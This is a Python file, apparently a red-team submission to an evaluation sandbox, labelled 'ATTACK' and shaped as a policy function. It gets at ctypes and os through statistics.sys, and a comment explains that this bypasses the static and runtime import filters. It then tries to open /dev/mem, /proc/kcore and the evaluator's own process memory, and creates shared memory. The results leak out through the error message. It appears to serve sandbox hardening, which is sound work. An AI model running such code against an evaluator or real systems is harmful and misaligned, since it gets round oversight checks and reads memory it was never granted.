"""ATTACK: reach memory outside the process: open /dev/mem, /proc/kcore and /proc/<ppid>/mem
(the evaluator's memory), memfd_create + mmap for a shared mapping, and shm_open through
ctypes. The results go into the failure reason."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
ctypes = _sys.modules["ctypes"]
os = _sys.modules["os"]

_report = []
for _p in ("/dev/mem", "/proc/kcore", f"/proc/{os.getppid()}/mem", "/proc/self/mem"):
    try:
        _fd = os.open(_p, os.O_RDWR)
        _report.insert(0, f"{_p} OPENED fd {_fd}")
    except BaseException as e:
        _report.append(f"{_p}:{repr(e).partition('(')[0]}")
try:
    _report.append(f"memfd fd {os.memfd_create('x')}")
except BaseException as e:
    _report.append(f"memfd:{repr(e).partition('(')[0]}")
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    _report.append(f"shm_open={_libc.shm_open(b'/pwned', 0o102, 0o600)}/errno {ctypes.get_errno()}")
except BaseException as e:
    _report.append(f"ctypes:{repr(e).partition('(')[0]}")


def policy(obs):
    raise RuntimeError("; ".join(_report))
